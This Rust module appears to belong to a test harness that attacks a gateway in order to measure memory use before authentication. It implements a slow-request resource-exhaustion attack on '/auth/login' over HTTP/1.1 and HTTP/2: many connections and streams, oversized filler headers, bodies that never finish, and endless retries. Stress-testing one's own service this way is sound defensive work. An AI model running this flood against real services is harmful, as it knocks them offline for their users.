//! Memory before a token is seen: many connections, each with as many requests as it may have, whose heads are as large as
//! they may be and whose bodies never end.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::try_join_all;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::Attack;
use super::attacker::Ground;
use crate::Result;

/// Connections of each version of HTTP. Programs that are not optimised take seconds to code and decode so many heads, and that
/// is not what is weighed.
const CONNECTIONS: usize = if cfg!(debug_assertions) { 10 } else { 100 };
/// Requests that one HTTP/2 connection has under way.
const STREAMS: usize = 64;
/// Bytes of headers; heads of more than 16 KiB are refused.
const HEAD: usize = 15_000;
/// Bytes that are sent of a body, which is said to be longer.
const BODY: usize = 15_000;
/// Between two requests on a place that became free, and between two connections on one that was closed.
const AGAIN: Duration = Duration::from_secs(2);

pub(super) fn attack(ground: Arc<Ground>) -> Attack {
    Box::pin(async move {
        let http2 = (0..CONNECTIONS).map(|_| over_http2(&ground));
        let http1 = (0..CONNECTIONS).map(|_| over_http1(&ground));
        tokio::try_join!(try_join_all(http2), try_join_all(http1)).map(drop)
    })
}

async fn over_http2(ground: &Ground) -> Result<()> {
    loop {
        // A connection that is refused or closed is what the gateway may well do.
        let _ = one_connection(ground).await;
        sleep(AGAIN).await;
    }
}

async fn one_connection(ground: &Ground) -> Result<()> {
    let (client, connection) = h2::client::handshake(ground.connect().await?).await?;
    let requests = (0..STREAMS).map(|_| one_after_the_other(client.clone()));
    tokio::select! {
        ended = connection => Ok(ended?),
        ended = try_join_all(requests) => ended.map(drop),
    }
}

async fn one_after_the_other(client: h2::client::SendRequest<Bytes>) -> Result<()> {
    loop {
        let mut ready = client.clone().ready().await?;
        let request = http::Request::post("http://gateway/auth/login")
            .header("content-type", "application/json")
            .header("x-filler", "x".repeat(HEAD))
            .body(())?;
        let (response, mut body) = ready.send_request(request, false)?;
        body.send_data(Bytes::from(vec![b' '; BODY]), false)?;
        // Whatever it is: a refusal makes the place free.
        let _ = response.await;
        sleep(AGAIN).await;
    }
}

async fn over_http1(ground: &Ground) -> Result<()> {
    let filler = "x".repeat(HEAD);
    let head =
        format!("POST /auth/login HTTP/1.1\r\nhost: gateway\r\ncontent-length: {}\r\nx-filler: {filler}", BODY * 2);
    loop {
        if let Ok(mut socket) = ground.connect().await {
            let _ = socket.write_all(head.as_bytes()).await;
            let mut end = [0; 1024];
            let _ = socket.read(&mut end).await;
        }
        sleep(AGAIN).await;
    }
}
